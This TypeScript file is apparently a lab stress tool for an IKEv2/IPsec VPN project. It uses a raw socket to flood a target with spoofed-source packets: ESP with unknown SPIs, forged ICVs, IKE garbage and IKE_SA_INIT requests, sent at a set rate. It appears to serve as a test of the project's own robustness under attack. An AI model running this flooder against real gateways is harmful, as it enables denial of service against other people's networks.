/**
 * Sends bad packets as fast as it is told, from many addresses, and says how many went out:
 *
 *     flood-process.ts KIND DESTINATION PACKETS-PER-SECOND SECONDS SPI
 *
 * prints "flooding", then "PACKETS MILLISECONDS". SPI, in hexadecimal, is one that the victim knows. The addresses are
 * those of the stranger's network (tunnel-lab.ts).
 */

import { randomBytes } from "node:crypto";
import { checked, errno, errnoName, libcCalls } from "../../common/adapters/linux/libc.ts";
import { MessageVector } from "../../common/adapters/linux/message-vector.ts";
import { Slab } from "../../common/adapters/linux/slab.ts";
import { AF_INET, SOCK_RAW, SOL_SOCKET } from "../../common/adapters/linux/socket-numbers.ts";
import { DEFAULT_SETTINGS } from "../../common/ikev2/default-settings.ts";
import { buildIkeSaInitRequest } from "../../common/ikev2/exchanges/ike-sa-init.ts";
import { beginKeyAgreement } from "../../common/ikev2/key-agreement.ts";
import { formatIkeSpi } from "../../common/ikev2/wire/header.ts";
import { ipv4Octets, parseIpv4 } from "../../common/ip/address.ts";
import { FLOOD_KINDS, type FloodKind } from "./flood.ts";

const IPPROTO_RAW = 255; // the IPv4 header is ours
const IPPROTO_ESP = 50;
const IPPROTO_UDP = 17;
const SO_SNDBUFFORCE = 32;
const SEND_BUFFER = 4 << 20;
const BATCH = 64;
const STRIDE = 1024;
const IPV4_HEADER = 20;
const UDP_HEADER = 8;
const HEADERS = IPV4_HEADER + UDP_HEADER;
const ESP_LENGTH = 120;
/** Behind the SPI; of whole blocks with either suite of the homes, so that nothing but the ICV is wrong. */
const FORGERY_LENGTH = 4 + 16 + 96 + 16; // sequence number, IV, ciphertext, ICV
const MARKER = [0, 0, 0, 0]; // RFC 3948 section 2.2
const FIRST_SOURCE = 0xcb0071e2; // 203.0.113.226
const SOURCES = 28;
/** Octets that are made anew for each packet. */
const RANDOM = 16;

interface Shape {
  readonly protocol: number;
  readonly port?: number;
  /** Before what is random in each packet. */
  readonly head?: readonly number[];
  /** Behind the head; its first octets are random in each packet. */
  readonly body: Uint8Array;
}

const [kindText = "", destination = "", rateText, secondsText, spiText = "0"] =
  process.argv.slice(2);
const kind = FLOOD_KINDS.find((each) => each === kindText);
if (kind === undefined) throw new Error(`no kind of flood: ${kindText}`);
const spi = Buffer.alloc(4);
spi.writeUInt32BE(Number.parseInt(spiText, 16));
flood(shapeOf(kind), Number(rateText), Number(secondsText));

function shapeOf(wanted: FloodKind): Shape {
  const udp = { protocol: IPPROTO_UDP, port: 4500 };
  switch (wanted) {
    case "esp-unknown-spi":
      return { protocol: IPPROTO_ESP, body: randomBytes(ESP_LENGTH) };
    case "udp-unknown-spi":
      return { ...udp, body: randomBytes(ESP_LENGTH) };
    case "esp-bad-icv":
      return { protocol: IPPROTO_ESP, head: [...spi], body: randomBytes(FORGERY_LENGTH) };
    case "udp-bad-icv":
      return { ...udp, head: [...spi], body: randomBytes(FORGERY_LENGTH) };
    case "short":
      return { ...udp, body: randomBytes(3) };
    case "keepalive":
      return { ...udp, head: [0xff], body: new Uint8Array(0) };
    case "ike-garbage":
      return { ...udp, port: 500, body: randomBytes(200) };
    case "ike-garbage-4500":
      return { ...udp, head: MARKER, body: randomBytes(200) };
    case "ike-init":
      return { ...udp, port: 500, body: ikeSaInit() };
    case "ike-init-4500":
      return { ...udp, head: MARKER, body: ikeSaInit() };
  }
}

/** As a home would send it; it begins with the initiator's SPI. */
function ikeSaInit(): Uint8Array {
  const random = (count: number) => new Uint8Array(randomBytes(count));
  const at = { address: parseIpv4("203.0.113.226"), port: 500 };
  const request = buildIkeSaInitRequest({
    spi: formatIkeSpi(random(8)),
    suites: DEFAULT_SETTINGS.ikeSuites,
    agreement: beginKeyAgreement("x25519", random),
    nonce: random(32),
    path: { local: at, remote: { address: parseIpv4(destination), port: 500 } },
  });
  return request;
}

function flood(shape: Shape, rate: number, seconds: number): void {
  const { head = [], body, port } = shape;
  const start = port === undefined ? IPV4_HEADER : HEADERS;
  const length = start + head.length + body.length;
  const memory = new Slab(BATCH * STRIDE);
  for (let slot = 0; slot < BATCH; slot++) {
    const at = slot * STRIDE;
    memory.octets.set([0x45, 0], at);
    memory.octets[at + 8] = 64; // hops
    memory.octets[at + 9] = shape.protocol;
    memory.octets.set(ipv4Octets(parseIpv4(destination)), at + 16);
    if (port !== undefined) {
      memory.view.setUint16(at + IPV4_HEADER + 2, port);
      memory.view.setUint16(at + IPV4_HEADER + 4, length - IPV4_HEADER);
    }
    memory.octets.set(head, at + start);
    memory.octets.set(body, at + start + head.length);
  }
  const randomAt = start + head.length;
  const randomLength = Math.min(RANDOM, body.length, kind?.startsWith("ike-init") ? 8 : RANDOM);
  const vector = new MessageVector(BATCH, (index) => ({
    address: memory.address(index * STRIDE, length),
    length,
  }));
  const to = Buffer.from(ipv4Octets(parseIpv4(destination))).readUInt32LE();
  vector.setDestination(BATCH, AF_INET, to);
  const fd = checked(libcCalls.socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "open a raw socket");
  const size = new Slab(8);
  size.view.setInt32(0, SEND_BUFFER, true);
  libcCalls.setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, size.address(0, 4), 4);

  let state = randomBytes(4).readUInt32LE() | 1;
  const random = () => {
    // xorshift32
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return state >>> 0;
  };
  const vary = () => {
    for (let slot = 0; slot < BATCH; slot++) {
      const at = slot * STRIDE;
      memory.view.setUint32(at + 12, FIRST_SOURCE + (random() % SOURCES));
      if (port !== undefined) memory.view.setUint16(at + IPV4_HEADER, 1024 + (random() % 60_000));
      for (let done = 0; done + 4 <= randomLength; done += 4) {
        memory.view.setUint32(at + randomAt + done, (random() | 0x01000000) >>> 0); // no marker
      }
    }
  };
  process.stdout.write("flooding\n");
  const from = performance.now();
  let sent = 0;
  const turn = () => {
    for (;;) {
      const elapsed = performance.now() - from;
      if (elapsed >= seconds * 1000) {
        process.stdout.write(`${sent} ${Math.round(elapsed)}\n`);
        process.exit(0);
      }
      if (sent >= (elapsed * rate) / 1000) break;
      vary();
      const taken = libcCalls.sendmmsg(fd, vector.address(0), BATCH, 0);
      if (taken < 0 && errnoName(errno()) !== "ENOBUFS") checked(taken, "send");
      sent += Math.max(taken, 0);
    }
    setImmediate(turn);
  };
  turn();
}
